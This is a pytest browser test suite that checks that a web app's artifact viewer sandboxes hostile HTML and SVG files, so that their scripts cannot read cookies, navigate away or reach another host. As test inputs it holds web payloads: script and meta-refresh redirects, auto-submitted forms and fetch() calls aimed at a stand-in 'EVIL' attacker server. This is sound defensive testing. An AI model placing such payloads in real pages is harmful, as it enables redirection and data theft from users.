"""A store that attacks its reader, opened in a real browser: nothing of it runs, and nothing leaves."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode, urlsplit

import pytest
from tests.support.browser import NARROW, Opens, Served, served, visits
from tests.support.depth import DEEP, thinned
from tests.support.hostile import files, hostile_store
from tests.support.pages import new_store

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

MOST, FILES = (200, 100) if DEEP else (25, 3)
"""Pages that are looked at, and how many of them of files, each of which is looked at by a click as well."""


@pytest.fixture(scope="module")
def server() -> Iterator[Served]:
    with served(hostile_store()) as server:
        yield server


@pytest.fixture
def opens(server: Served, browser: Browser) -> Iterator[Opens]:
    with visits(browser, server.url) as opens:
        yield opens


def _links(page: Page) -> list[str]:
    """Where a page leads within its server, but to bytes; a link elsewhere is to what a text names by http alone."""
    found: list[str] = page.eval_on_selector_all("a[href]", "all => all.map(one => one.href)")
    here = urlsplit(page.url).netloc
    assert {urlsplit(one).scheme for one in found} <= {"http", "https", "mailto"}
    parts = [urlsplit(one) for one in found if urlsplit(one).netloc == here]
    return [f"{one.path}?{one.query}" for one in parts if not one.path.endswith(("/raw", "/sandbox"))]


def _kind(address: str) -> tuple[Any, ...]:
    """What tells a page from others of its kind: not how a table is ordered, nor what is searched for."""
    parts = urlsplit(address)
    facts = [pair for pair in parts.query.split("&") if pair.startswith(("tab=", "path=", "version=", "name="))]
    return parts.path, tuple(sorted(facts))


def test_no_page_runs_what_a_store_holds(opens: Opens) -> None:
    """All that can be reached from the first page is looked at: nothing runs, leaves, or breaks the policy."""
    visit = opens()
    visit.expects |= {400, 404, 502}  # a damaged file may be refused; what was asked of others never is
    dialogs: list[str] = []
    visit.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    visit.page.on("popup", lambda popup: dialogs.append(popup.url))
    waiting, seen = ["/", "/experiments", "/models", "/store", "/search?q=script"], set[tuple[Any, ...]]()
    while waiting and len(seen) < MOST:
        address = waiting.pop(0)
        of_files = sum(path.endswith("/artifact") for path, _ in seen)
        if _kind(address) in seen or ("/artifact?" in address and of_files == FILES):
            continue
        seen.add(_kind(address))
        page = visit.open(address)
        assert page.evaluate("[window.pwned, document.cookie, document.title.includes('pwned')]")[:2] == [None, ""], (
            address
        )
        assert page.url.startswith(visit.url)
        waiting += _links(page)
    assert not dialogs
    assert len(seen) > 20, "all kinds of pages were looked at"


def test_no_file_runs_in_its_preview(opens: Opens, server: Served) -> None:
    """Each file is looked at by a click, as readers do it: its preview comes into the page, and runs nothing there."""
    run = next(found.info.run_id for found in server.site.store.runs.search() if found.data.metrics)
    visit = opens()
    page = visit.open(f"/runs/{run}?tab=artifacts")
    for path in files():
        page.click(f'.level a[href$="path={path}"]')
        page.wait_for_selector(f'#preview h2 a[href$="path={path}"]')
        assert page.evaluate("window.pwned") is None, path
    assert page.url.endswith(f"path={path}"), "the address is that of the file"


def test_no_page_is_wider_than_a_phone(opens: Opens, server: Served) -> None:
    """Names of six thousand characters break, and do not push a page out of the screen."""
    visit = opens(NARROW, dark=True)
    tabs = ("overview", "charts", "artifacts", "environment", "lineage")
    pages = [(summary.info.run_id, tab) for summary in server.site.store.runs.search() for tab in tabs]
    for run, tab in thinned(pages, 3):
        page = visit.open(f"/runs/{run}?tab={tab}")
        assert page.evaluate("document.documentElement.scrollWidth") <= NARROW[0], tab


TRIES = (Path(__file__).parents[2] / "support" / "attack.js").read_text()


LEAVES = (
    "<script>location = 'EVIL/self'</script>",
    "<meta http-equiv=refresh content='0;url=EVIL/meta'>",
    "<form action=EVIL/form></form><script>document.forms[0].submit()</script>",
    "<a href=EVIL/link>x</a><script>document.links[0].click()</script>",
)


@pytest.fixture(scope="module")
def evil() -> Iterator[tuple[str, list[str]]]:
    """Another host, and what it was asked for."""
    asked: list[str] = []

    class Evil(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Evil) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def attacked(evil: tuple[str, list[str]]) -> Iterator[tuple[Served, str]]:
    store = new_store(environment=False)
    with store.runs.start(name="attacker") as run:
        tries = TRIES.replace("ws:EVIL", evil[0].replace("http", "ws")).replace("EVIL", evil[0])
        run.log_text(f"<!doctype html><body><p>plot</p><script>{tries}</script>", "plot.html")
        for n, text in enumerate(LEAVES):
            run.log_text(f"<!doctype html><body>{text.replace('EVIL', evil[0])}", f"leaves{n}.html")
        script = f"<script>document.documentElement.id = 'ran'; fetch('{evil[0]}/svg').catch(() => 0)</script>"
        svg = f"{script}<image href='{evil[0]}/svg.png'/>"
        run.log_text(f"<svg xmlns='http://www.w3.org/2000/svg'>{svg}</svg>", "plot.svg")
        run.log_text("<p>" + "x" * (9 << 20), "long.html")
    with served(store) as server:
        yield server, run.id


@pytest.fixture
def attacker(attacked: tuple[Served, str], browser: Browser) -> Iterator[tuple[Opens, str]]:
    with visits(browser, attacked[0].url) as opens:
        yield opens, attacked[1]


def test_what_is_shut_in_reaches_nothing(attacker: tuple[Opens, str], evil: tuple[str, list[str]]) -> None:
    """A logged page runs its scripts, and reads no cookie, no storage, no parent; asks, opens and sends nothing."""
    opens, run = attacker
    visit = opens()
    page = visit.page
    page.context.add_cookies([{"name": "secret", "value": "s3cret", "url": visit.url}])
    others: list[str] = []
    page.on("popup", lambda popup: others.append(popup.url))
    visit.open(f"/runs/{run}/artifact?path=plot.html")
    frame = page.frames[1]
    frame.wait_for_selector("body[data-told]", state="attached")
    told = frame.evaluate("JSON.parse(document.body.dataset.told)")
    refused = {
        "cookie",
        "write cookie",
        "storage",
        "session",
        "database",
        "parent",
        "top",
        "top navigation",
        "frame",
    }
    assert {name: told[name] for name in refused if told[name] not in ("no", "", "null")} == {}
    assert told["open"] in ("null", "no")
    assert told["dialog"] in ("nothing", "no")
    assert told["fetch"] == "rejected,rejected,rejected"
    assert not evil[1], "blocked before a byte goes out"
    assert page.url.startswith(visit.url)
    assert others == []
    assert visit.shut_in, "it said what it was refused"
    visit.problems[:] = [text for text in visit.problems if not text.startswith(f"error: Framing '{evil[0]}")]


def test_a_drawing_is_shut_in_too(attacker: tuple[Opens, str]) -> None:
    """SVG is drawn as itself, its scripts under the same rules."""
    opens, run = attacker
    page = opens().open(f"/runs/{run}/artifact?path=plot.svg")
    page.frames[1].wait_for_selector("#ran", state="attached")
    assert page.frames[1].evaluate("document.contentType") == "image/svg+xml"
    assert page.frames[1].evaluate("self.origin") == "null"


def test_what_is_shut_in_goes_nowhere(attacker: tuple[Opens, str], evil: tuple[str, list[str]]) -> None:
    """A frame that sends itself to another host is stopped by the page around it, which stays."""
    opens, run = attacker
    for n in thinned(range(len(LEAVES)), 2):
        visit = opens()
        page = visit.open(f"/runs/{run}/artifact?path=leaves{n}.html")
        page.wait_for_timeout(100)
        assert page.url.startswith(visit.url)
        assert not any(urlsplit(frame.url).netloc == urlsplit(evil[0]).netloc for frame in page.frames)
        visit.problems[:] = [text for text in visit.problems if "frame-src" not in text and "Framing" not in text]
    assert not evil[1]


def test_it_is_for_frames_alone(attacker: tuple[Opens, str]) -> None:
    """Opened by itself it is refused, as it could go elsewhere then; one that is too long is refused too."""
    opens, run = attacker
    visit = opens()
    visit.expects.add(400)
    page = visit.open(f"/runs/{run}/sandbox?{urlencode({'path': 'plot.html'})}")
    assert "for a frame" in page.inner_text("main")
    page = visit.open(f"/runs/{run}/artifact?path=long.html")
    assert page.query_selector("iframe") is None
    assert "more than is shown" in page.inner_text("main")
